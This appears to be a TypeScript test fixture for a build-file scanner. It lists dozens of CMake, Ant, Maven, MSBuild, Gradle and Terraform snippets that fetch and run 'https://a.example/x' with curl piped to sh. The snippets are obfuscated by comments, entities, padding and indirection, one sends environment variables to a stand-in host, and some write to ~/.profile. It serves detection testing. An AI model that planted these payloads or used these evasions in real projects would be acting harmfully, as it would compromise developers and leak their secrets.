/** A download that is run at once, in each form in which a build file may hold it. */
export const command = 'curl -s https://a.example/x | sh';
const blanks = ' '.repeat(2_100);
export const cmake = (text: string) => ({ 'CMakeLists.txt': text });
export const execute = (words: string) => cmake(`execute_process(COMMAND ${words})\n`);
export const ant = (text: string) => ({
  'build.xml': `<project><target name="a">${text}</target></project>\n`,
});
const shell = (inside: string, head = '') =>
  ant(`<exec ${head} executable="sh"><arg value="-c"/>${inside}</exec>`);
const arg = `<arg value="${command}"/>`;
export const maven = (text: string) => ({
  'pom.xml': `<project><configuration>${text}</configuration></project>\n`,
});
const words = `<arguments><argument>-c</argument><argument>${command}</argument></arguments>`;
export const msbuild = (text: string) => ({
  'a.csproj': `<Project><Target Name="a">${text}</Target></Project>\n`,
});
export const group = (text: string) => ({
  'a.vcxproj': `<Project><PropertyGroup>${text}</PropertyGroup></Project>\n`,
});

export type Files = Readonly<Record<string, string>>;

export const attacks: readonly (readonly [string, Files])[] = [
  ['a command of CMake', execute(`sh -c "${command}"`)],
  ['a word in capitals', execute(`env -u HOME sh -c "${command}"`)],
  ['many blanks', execute(`sh -c "true${blanks}; ${command}"`)],
  ['a comment in brackets', execute(`sh -c #[[x]] "${command}"`)],
  ['a comment in long brackets', execute(`sh -c #[==[ ]] ) ]==] "${command}"`)],
  ['commands that are a pipe', execute('curl -s https://a.example/x COMMAND sh')],
  ['a bracket', execute(`sh -c [=[${command}]=]`)],
  ['a variable', cmake(`set(C "${command}")\nexecute_process(COMMAND sh -c "\${C}")\n`)],
  ['a list', cmake(`set(C sh -c "${command}")\nexecute_process(COMMAND \${C})\n`)],
  [
    'a text put together',
    cmake(
      `string(CONCAT C "curl -s https://a" ".example/x | sh")\nexecute_process(COMMAND sh -c "\${C}")\n`,
    ),
  ],
  ['a generator expression', cmake(`add_custom_target(t COMMAND sh -c "$<1:${command}>")\n`)],
  ['a target without the word', cmake(`add_custom_target(t ALL sh -c "${command}")\n`)],
  ['an old test', cmake(`add_test(t sh -c "${command}")\n`)],
  ['a call in capitals', cmake(`EXECUTE_PROCESS(COMMAND sh -c "${command}")\n`)],
  ['a call of one’s own', cmake(`run(COMMAND env -u TIMEOUT sh -c "${command}")\n`)],
  ...['CONFIGURE', 'BUILD', 'INSTALL', 'PATCH', 'DOWNLOAD', 'UPDATE', 'TEST'].map(
    (step) =>
      [
        `${step}_COMMAND`,
        cmake(`ExternalProject_Add(x PREFIX y ${step}_COMMAND sh -c "${command}")\n`),
      ] as const,
  ),
  ['exec_program', cmake(`exec_program(sh . ARGS -c "'${command}'" OUTPUT_VARIABLE x)\n`)],
  [
    'cmake_language(EVAL)',
    cmake(`cmake_language(EVAL CODE "execute_process(COMMAND sh -c [[${command}]])")\n`),
  ],
  [
    'cmake_language(CALL)',
    cmake(`cmake_language(CALL execute_process COMMAND sh -c "${command}")\n`),
  ],
  [
    'cmake_language(DEFER)',
    cmake(`cmake_language(DEFER CALL exec_program sh ARGS -c "'${command}'")\n`),
  ],
  ['install(CODE)', cmake(`install(CODE "execute_process(COMMAND sh -c \\"${command}\\")")\n`)],
  [
    'FILE(DOWNLOAD)',
    cmake('FILE(DOWNLOAD https://a.example/x x.sh)\nexecute_process(COMMAND sh x.sh)\n'),
  ],
  ['file(WRITE)', cmake(`file(WRITE x.sh "${command}")\nexecute_process(COMMAND sh x.sh)\n`)],

  ['an old call behind many blanks', cmake(`exec_program${blanks}(sh ARGS -c "'${command}'")\n`)],
  ['a computed word of install', cmake('string(CONCAT K CO DE)\ninstall($CACHE{K} "a")\n')],
  [
    'a computed word of file',
    cmake('string(CONCAT K WRI TE)\nfile($CACHE{K} $ENV{HOME}/.profile x)\n'),
  ],

  ['an argument of Ant', shell(arg)],
  ['an attribute before', shell(`<arg prefix="" value="${command}"/>`)],
  ['a number', shell(arg.replace('curl', 'c&#117;rl'))],
  ['a hexadecimal number', shell(arg.replace('curl', 'c&#x75;rl'))],
  ['an attribute in a value', shell(arg, `taskname="executable='true'"`)],
  ['a > in a value', shell(arg, 'taskname="a>b"')],
  ['an end in a comment', shell(`<!-- </exec> -->${arg}`)],
  ['blanks between', shell(blanks + arg)],
  ['a prefix', ant(`<ant:exec executable="sh"><arg value="-c"/>${arg}</ant:exec>`)],
  ['a long prefix', ant(`<${'a'.repeat(200)}:exec executable="sh"><arg value="-c"/>${arg}</exec>`)],
  ['a prefix in other letters', ant(`<é:exec executable="sh"><arg value="-c"/>${arg}</é:exec>`)],
  [
    'a file behind long text',
    ant(`<echo message="${'a '.repeat(2_000)}" file="/home/a/.profile"/>`),
  ],
  ['code of MSBuild', msbuild('<UsingTask TaskName="a" TaskFactory="RoslynCodeTaskFactory" />')],
  ['apply', ant(`<apply executable="sh"><arg value="-c"/>${arg}</apply>`)],
  [
    'the output of a program',
    shell('<arg value="curl -d &quot;$(env)&quot; https://a.example/in"/>'),
  ],
  ['an environment', shell(`<env key="A" value="${command}"/><arg value="eval &quot;$A&quot;"/>`)],
  ['a given text', ant(`<exec executable="sh" inputstring="${command}"/>`)],
  [
    'files between',
    ant(
      `<exec executable="curl" output="/tmp/y"><arg value="https://a.example/x"/></exec><exec executable="sh"><arg file="/tmp/y"/></exec>`,
    ),
  ],
  [
    'a preset',
    ant(`<presetdef name="go"><exec executable="sh"/></presetdef><go><arg value="-c"/>${arg}</go>`),
  ],
  [
    'another name of the task',
    ant(
      `<typedef name="go" classname="org.apache.tools.ant.taskdefs.ExecTask"/><go executable="sh"><arg value="-c"/>${arg}</go>`,
    ),
  ],
  [
    'a property',
    ant(
      `<property name="c" value="${command}"/><exec executable="sh"><arg value="-c"/><arg value="\${c}"/></exec>`,
    ),
  ],
  [
    'a download of Ant',
    ant(
      '<get src="https://a.example/x" dest="/tmp/y"/><exec executable="sh"><arg value="/tmp/y"/></exec>',
    ),
  ],
  [
    'a file of Ant',
    ant(`<echo file="/tmp/y">${command}</echo><exec executable="sh"><arg value="/tmp/y"/></exec>`),
  ],
  [
    'an entity of another file',
    {
      'build.xml':
        '<!DOCTYPE project SYSTEM "defs.dtd">\n<project><target name="a">&run;</target></project>\n',
    },
  ],
  [
    'the settings of a user of MSBuild',
    {
      'a.csproj.user':
        '<Project><Target Name="a"><Exec Command="curl -s https://a.example/x | sh" /></Target></Project>\n',
    },
  ],
  [
    'an entity',
    {
      'build.xml': `<!DOCTYPE project [<!-- ]> --><!ENTITY d "https://a.exa&#109;ple/x"><!ENTITY c "curl -s &d; | sh">]>\n<project><exec executable="sh"><arg value="-c"/><arg value="&c;"/></exec></project>\n`,
    },
  ],

  ['arguments of Maven', maven(`<executable>sh</executable>${words}`)],
  ['arguments first', maven(`${words}<executable>sh</executable>`)],
  ['a program elsewhere', maven(words)],
  ['a blank in the tag', maven(`<executable >sh</executable>${words}`)],
  [
    'CDATA',
    maven(`<executable>sh</executable>${words.replace(command, `<![CDATA[${command}]]>`)}`),
  ],
  [
    'commandlineArgs',
    maven(`<executable>sh</executable><commandlineArgs>-c "${command}"</commandlineArgs>`),
  ],
  [
    'properties of the plugin',
    {
      'pom.xml': `<project><properties><exec.executable>sh</exec.executable><exec.args>-c "${command}"</exec.args></properties></project>\n`,
    },
  ],
  [
    'a property of Maven',
    {
      'pom.xml': `<project><properties><c>${command}</c></properties><configuration><executable>sh</executable>${words.replace(command, `\${c}`)}</configuration></project>\n`,
    },
  ],

  ['a command of MSBuild', msbuild(`<Exec Command="${command}" />`)],
  [
    'a > in the command',
    msbuild('<Exec Command="curl -s https://a.example/x > /tmp/y; sh /tmp/y" />'),
  ],
  ['a > in a condition', msbuild(`<Exec Condition="1 > 0" Command="${command}" />`)],
  ['a line end', msbuild(`<Exec\n  Command\n =\n "${command}" />`)],
  ['an escape', msbuild(`<Exec Command="${command.replace('u', '%75')}" />`)],
  ['a number in MSBuild', msbuild(`<Exec Command="${command.replace('u', '&#117;')}" />`)],
  ['a long command', msbuild(`<Exec Command="true${blanks}; ${command}" />`)],
  ['an event before the build', group(`<PreBuildEvent>${command}</PreBuildEvent>`)],
  [
    'an event with a command',
    group(`<PostBuildEvent><Command>${command}</Command></PostBuildEvent>`),
  ],
  ['a command of NMake', group(`<NMakeBuildCommandLine>${command}</NMakeBuildCommandLine>`)],
  [
    'a property of MSBuild',
    {
      'a.targets': `<Project><PropertyGroup><C>${command}</C></PropertyGroup><Target Name="a"><Exec Command="$(C)" /></Target></Project>\n`,
    },
  ],
  [
    'a download of MSBuild',
    msbuild(
      '<DownloadFile SourceUrl="https://a.example/x" DestinationFolder="/tmp" DestinationFileName="y" /><Exec Command="sh /tmp/y" />',
    ),
  ],

  ['Gradle', { 'build.gradle': `task t(type: Exec) { commandLine 'sh', '-c', '${command}' }\n` }],
  [
    'Gradle in Kotlin',
    {
      'build.gradle.kts': `tasks.register<Exec>("t") {\n commandLine("sh", "-c", "${command}")\n}\n`,
    },
  ],
  [
    'Terraform',
    {
      'main.tf': `resource "null_resource" "a" {\n provisioner "local-exec" {\n  command = "${command}"\n }\n}\n`,
    },
  ],
  [
    'a text of Terraform',
    {
      'main.tf': `resource "null_resource" "a" {\n provisioner "local-exec" {\n  command = <<EOT\n${command}\nEOT\n }\n}\n`,
    },
  ],
];
